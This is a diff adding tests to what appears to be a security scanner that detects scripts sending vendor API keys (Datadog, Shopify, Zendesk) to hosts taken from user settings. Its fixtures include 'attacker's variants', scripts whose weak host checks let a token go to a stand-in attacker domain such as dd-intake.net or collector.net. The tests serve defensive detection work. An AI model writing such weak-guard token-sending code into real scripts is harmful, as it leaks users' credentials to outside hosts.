@@ -79,3 +79,28 @@ describe("a minified bundle's one-letter names are followed only near the fetch"
     expect(scan({ "scripts/bot.mjs": far }).decision).toBe("blocked");
   });
 });
+
+describe("a vendor's key sent to a host from the user's setting that the code pins to that vendor's domains", () => {
+  const DD = (check: string, def = "datadoghq.com") => `param([string]$Service)\n$site = if ($env:DD_SITE) { $env:DD_SITE } else { '${def}' }\n${check}\n$body = @{ title = "deploy $Service" } | ConvertTo-Json\nInvoke-RestMethod -Method Post -Uri "https://api.$site/api/v1/events" -Headers @{ 'DD-API-KEY' = $env:DD_API_KEY } -Body $body\n`;
+  const SHOP = (check: string) => `import os, re, sys\nimport requests\nstore = os.environ["SHOPIFY_STORE"]\n${check}\nr = requests.post(f"https://{store}/admin/api/2024-10/graphql.json", headers={"X-Shopify-Access-Token": os.environ["SHOPIFY_ADMIN_TOKEN"]}, json={"query": "{ shop { name } }"}, timeout=30)\nprint(r.json())\n`;
+  const ZD = (check: string) => `const host = process.env.ZENDESK_HOST;\n${check}\nconst r = await fetch(\`https://\${host}/api/v2/tickets.json\`, { headers: { Authorization: \`Bearer \${process.env.ZENDESK_API_TOKEN}\` } });\nconsole.log(await r.json());\n`;
+
+  it("is no exfiltration when the guard pins the host and stops otherwise (PowerShell, Python, JavaScript)", () => {
+    expect(scan({ "marker.ps1": DD("if ($site -notmatch '^((us3|us5|ap1)\\.)?datadoghq\\.(com|eu)$|^ddog-gov\\.com$') { throw \"unknown Datadog site $site\" }") }).critical).toEqual([]);
+    expect(scan({ "report.py": SHOP('if not re.fullmatch(r"[a-z0-9-]+\\.myshopify\\.com", store):\n    sys.exit("SHOPIFY_STORE must be <name>.myshopify.com")') }).critical).toEqual([]);
+    expect(scan({ "tickets.mjs": ZD("if (!/^[a-z0-9-]+\\.zendesk\\.com$/.test(host)) throw new Error('ZENDESK_HOST must be <name>.zendesk.com');") }).critical).toEqual([]);
+  });
+
+  it("keeps the block when the guard lets another domain through, does not stop, or tests another name", () => {
+    // The attacker's variants: the attacker's own domain listed beside the vendor's, with it as the default.
+    expect(scan({ "marker.ps1": DD("if ($site -notmatch '^(api\\.)?(datadoghq\\.com|dd-intake\\.net)$') { throw 'bad site' }", "dd-intake.net") }).decision).toBe("blocked");
+    expect(scan({ "marker.ps1": DD("if ($site -notmatch '^datadoghq\\.com$|^dd-intake\\.net$') { throw 'bad site' }", "dd-intake.net") }).decision).toBe("blocked");
+    // Unanchored (`myshopify.com.collector.net` matches) or not at a dot (`evilmyshopify.com`).
+    expect(scan({ "report.py": SHOP('if not re.search(r"myshopify\\.com", store):\n    sys.exit("bad store")') }).decision).toBe("blocked");
+    expect(scan({ "report.py": SHOP('if not re.fullmatch(r"[a-z]+myshopify\\.com", store):\n    sys.exit("bad store")') }).decision).toBe("blocked");
+    // A guard that only warns, a guard on another variable, a host set again after the guard.
+    expect(scan({ "report.py": SHOP('if not re.fullmatch(r"[a-z0-9-]+\\.myshopify\\.com", store):\n    print("unusual store")') }).decision).toBe("blocked");
+    expect(scan({ "report.py": SHOP('shop = os.environ.get("SHOP_NAME", "")\nif not re.fullmatch(r"[a-z0-9-]+\\.myshopify\\.com", shop):\n    sys.exit("bad store")') }).decision).toBe("blocked");
+    expect(scan({ "report.py": SHOP('if not re.fullmatch(r"[a-z0-9-]+\\.myshopify\\.com", store):\n    sys.exit("bad store")\nstore = os.environ.get("SHOP_MIRROR", store)') }).decision).toBe("blocked");
+  });
+});
